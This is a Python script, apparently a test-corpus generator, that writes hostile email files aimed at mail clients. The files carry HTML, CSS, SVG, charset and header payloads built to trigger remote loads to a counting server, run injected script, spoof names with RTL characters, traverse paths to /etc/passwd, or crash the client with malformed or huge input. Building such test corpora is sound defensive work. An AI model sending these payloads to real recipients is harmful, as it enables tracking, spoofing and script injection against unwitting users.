#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""Writes mails that would load, open or break something, each to a file: hostile.py URL DIRECTORY

URL is where a server counts requests and connections.
"""
import base64, html, os, sys

URL, directory = sys.argv[1:]
HOST = URL.split("//")[1]
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=")
AHEAD = "<link rel=preconnect href=%s/ahead><link rel=dns-prefetch href=//prefetch.test>" % URL

BODIES = {
    "ends": "</iframe></div></details></li></ol></main>'\"><img src=U/ends><script>fetch('U/alert')</script><!-- --><title></style></pre>",
    "links": AHEAD + "".join("<%s %s href='U/%s'>" % (tag, rel, rel.split("=")[1].split()[0]) for tag in ("link", "LINK/", "lInK\n", "link\f") for rel in (
        "rel=preconnect", "rel='preconnect stylesheet'", "rel=prefetch", "rel=preload as=image", "rel=prerender", "rel=stylesheet", "rel=icon",
        "rel=manifest", "rel=modulepreload", "rel=import", "rel=alternate", "rel=next", "rel='shortcut icon'", "rel=pingback")),
    "links-in-svg": "<svg><foreignObject>" + AHEAD + "</foreignObject><link rel=preconnect href=U/svg></svg><math><mtext>" + AHEAD,
    "links-in-shadow": "<div><template shadowrootmode=open>" + AHEAD + "<img src=U/shadow></template></div><noscript>" + AHEAD + "</noscript>",
    "images-ahead": "<link rel='preload preconnect' as=image imagesrcset='U/imagesrcset 1x'>",
    "links-by-animation": "<svg width=900 height=500><a><set attributeName=href to=U/set begin=0s fill=freeze /><rect width=900 height=250 /></a>"
                          "<a><animate attributename='hre&#102;' values=U/animated dur=9s fill=freeze /><rect y=250 width=900 height=250 /></a></svg>",
    "meta": "<meta http-equiv=refresh content='0;url=U/refresh'><META/HTTP-EQUIV='refresh' CONTENT='0; U/refresh2'>"
            "<base href='U/base/' target=_top><img src=relative.png><a href=relative>x</a><meta http-equiv=set-cookie content=a=b>",
    "lookups": "<meta http-equiv=x-dns-prefetch-control content=on><a href=//anchor.test>x</a><a href=U/a>x</a>",
    "frames": "<iframe src='U/iframe'></iframe><iframe srcdoc=\"&lt;img src=U/nested&gt;%s\"></iframe><iframe srcdoc='&#60;l&#105;nk rel=preconnect href=U/n2>'>"
              "</iframe><IFRAME SRCDOC='%s'></IFRAME><iframe src='javascript:1'></iframe><iframe src='data:text/html,<img src=U/data>'></iframe>"
              % (html.escape(AHEAD), html.escape(html.escape("<iframe srcdoc=\"" + html.escape(AHEAD) + "\"></iframe>"))),
    "frameset": "<frameset cols=*><frame src=U/frame></frameset>",
    "objects": "<object data=U/object><embed src=U/embed></object><applet code=U/applet></applet><portal src=U/portal></portal><fencedframe src=U/f></fencedframe>",
    "forms": "<form action=U/form method=post><input name=a autofocus><button>go</button><input type=image src=U/image><input type=file></form>"
             "<button formaction=U/formaction>x</button><isindex action=U/isindex>",
    "svg": "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image href=U/image1 /><image xlink:href=U/image2 /><use href='U/use#a'/><script href=U/script></script>"
           "<filter><feImage href=U/fe /></filter><a href=U/a><text y=20>x</text></a><set attributeName=href to=U/set /><style>@import 'U/svgcss';</style></svg>",
    "style": "<style>@import 'U/i1'; @import url(U/i2); @font-face { font-family: f; src: url(U/font) } body { background: url(U/b1); font-family: f; cursor: url(U/cursor), auto }"
             " li { list-style-image: url(U/li) } p::before { content: url(U/content) } p { background: image-set('U/set' 1x); mask: url(U/mask); filter: url(U/filter#a) }"
             "</style><p style='background: u\\72l(U/escaped); border-image: url(\"U/border\")'>x<ul><li>y</ul><div style=\"behavior: url(U/htc)\">",
    "media": "<video src=U/video poster=U/poster autoplay muted></video><audio src=U/audio autoplay></audio><video autoplay muted><source src=U/source><track src=U/track default></video>",
    "images": "<img src=U/img><img srcset='U/srcset 1x' loading=eager><picture><source srcset=U/picture><img></picture><body background=U/body><table background=U/table>"
              "<td background=U/td>x</table><img src=//HOST/relative><img src=\\\\HOST\\back><image src=U/image><img src='file:///etc/passwd'><img attributionsrc=U/attribution src=U/x>",
    "scripts": "<script src=U/script></script><script>new Image().src='U/inline'; fetch('U/fetch'); open('U/open'); top.location='U/top'</script><img src=x: onerror=\"fetch('U/onerror')\">"
               "<body onload=\"fetch('U/onload')\"><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"U/rules\"]}],\"prerender\":[{\"urls\":[\"U/rules2\"]}]}</script>"
               "<script type=module>import 'U/module'</script><script type=importmap>{\"imports\":{\"a\":\"U/map\"}}</script><details open ontoggle=\"fetch('U/toggle')\">x</details>",
    "anchors": "".join("<a style='display:block;padding:9px' %s>click</a>" % a for a in (
        "href=U/plain", "href=U/top target=_top", "href=U/blank target=_blank", "href=U/parent target=_parent", "href=U/named target=named", "href=U/ping ping=U/pinged",
        "href=\"javascript:fetch('U/javascript')\"", "href='data:text/html,<script>fetch('U/alert')</script>' target=_blank", "href=file:///etc/passwd", "href=U/download download",
        "href=U/attributed attributionsrc=U/reported target=_blank", "href='mailto:a@x.test'")),
    "controls": "a\0b\1\x1b[31m\x9bc\rd\x0b\x0c<im\0g src=U/nul><img s\0rc=U/nul2><l\0ink rel=preconnect href=U/nul3><img src='U/\0nul4'><link\0 rel=preconnect href=U/nul5><link rel=preconnect href\0=U/nul6><iframe\0 src=U/nul7></iframe\0><a href\0=U/nul8>x</a><meta http-equiv\0=refresh content='0; U/nul9'>",
    "quotes": "&quot;&gt;&lt;script&gt; &#39;&#34;' \" ' >`<img alt='\"' title=\"'\" src=U/quotes>&amp;quot;&amp;lt;link rel=preconnect href=U/x>&amp;#60;link ' srcdoc='<img src=U/y>",
    "words": "x" * 200000 + " <p>" + "\u00a0y" * 50000,
    "directions": "\u202e<a href=U/rtl>\u2066moc.elpmaxe\u2069</a>\u202c\u200f\u200b\ufeff\U000e0041\u2028",
    "unclosed-comment": "<p>x<!-- <img src=U/comment>",
    "unclosed-text": "<textarea><plaintext><style><title><xmp><noembed><noframes>" + AHEAD,
    "doctype": "<!DOCTYPE html SYSTEM 'U/dtd'><?xml-stylesheet href='U/xsl'?><html manifest=U/manifest><![CDATA[<img src=U/cdata>]]><!ENTITY x SYSTEM 'U/entity'>",
    "dialogs": "<dialog open>x</dialog><div popover id=p>y</div><button popovertarget=p>z</button><input autofocus onfocus=\"fetch('U/focus')\"><marquee onstart=\"fetch('U/m')\">m</marquee>",
}


def write(name, header, body):
    with open(os.path.join(directory, name), "wb") as f:
        f.write(b"To: b@x.test\r\nMIME-Version: 1.0\r\nSubject: " + name.encode() + b"\r\n" + header + b"\r\n\r\n" + body + b"\r\n")


def here(text):
    return text.replace("U/", URL + "/").replace("HOST", HOST)


os.makedirs(directory, exist_ok=True)
for name, body in BODIES.items():
    write(name, b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64", base64.encodebytes(here(body).encode("utf-8", "surrogateescape")).replace(b"\n", b"\r\n"))

MARKUP = here("'\"><img src=U/markup><script>fetch('U/alert')</script></td></iframe>&lt;")
write("octets", b"Content-Type: text/html; charset=utf-8", b"\xc0\xbcscript\xc0\xbe \xff\xfe \xed\xa0\x80 \xf4\x90\x80\x80 <img src=" + URL.encode() + b"/\xff>")
write("utf-7", b"Content-Type: text/html; charset=utf-7", b"+ADw-script+AD4-open()+ADw-/script+AD4APA-img src=" + URL.encode() + b"/utf7+AD4-")
write("utf-16", b"Content-Type: text/html; charset=utf-16le\r\nContent-Transfer-Encoding: base64", base64.encodebytes(here("<img src=U/utf16>" + AHEAD).encode("utf-16le")).replace(b"\n", b"\r\n"))
write("text", b"From: =?utf-8?q?=3C/span=3E" + MARKUP.encode().replace(b" ", b"_").replace(b"=", b"=3D").replace(b"?", b"=3F") + b"?= <a@x.test>\r\nX-" + b"y" * 900 + b": z",
      b"</pre></details>" + MARKUP.encode() + "\u202e\u2066\x1b[2J".encode() + b"\0\r\n</html>")
write("header", b"\r\n".join(b"X-<b>%d: %b" % (i, MARKUP.encode()) for i in range(10000)), b"x")
write("attachments", b"Content-Type: multipart/mixed; boundary=b", b"".join(
    b"--b\r\nContent-Type: %b\r\nContent-Disposition: attachment; filename*=utf-8''%b\r\nContent-ID: <%b>\r\n\r\n%b\r\n" % (kind, "".join("%%%02x" % c for c in name.encode()).encode(), MARKUP.encode(), MARKUP.encode())
    for kind, name in ((b"text/html", "page.html"), (b"text/<script>", MARKUP), (b"image/svg+xml\"'>", "../../../etc/passwd"), (b"a\"onclick=open()/b", "\u202egpj.exe"), (b"x" * 500 + b"/" + b"<" * 500, "\0\n\r"))) + b"--b--")
write("pictures", b"Content-Type: multipart/related; boundary=b", b"--b\r\nContent-Type: text/html\r\n\r\n<img src='cid:a'><img src=cid:b><object data=cid:b></object><iframe src=cid:c></iframe><embed src=cid:b>"
      b"<link rel=stylesheet href=cid:d><script src=cid:d></script><div style='background: url(cid:a)'>\r\n--b\r\nContent-Type: image/png');x:url(" + URL.encode() + b"/type\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
      + base64.encodebytes(PNG) + b"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <b>\r\n\r\n" + here("<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('U/svgload')\"><image href='U/svgimage'/><script>fetch('U/svgscript')</script></svg>").encode()
      + b"\r\n--b\r\nContent-Type: text/html\r\nContent-ID: <c>\r\n\r\n" + here("<img src=U/inner><script>fetch('U/innerscript')</script>" + AHEAD).encode()
      + b"\r\n--b\r\nContent-Type: text/css\r\nContent-ID: <d>\r\n\r\n" + here("@import 'U/cidcss';").encode() + b"\r\n--b--")
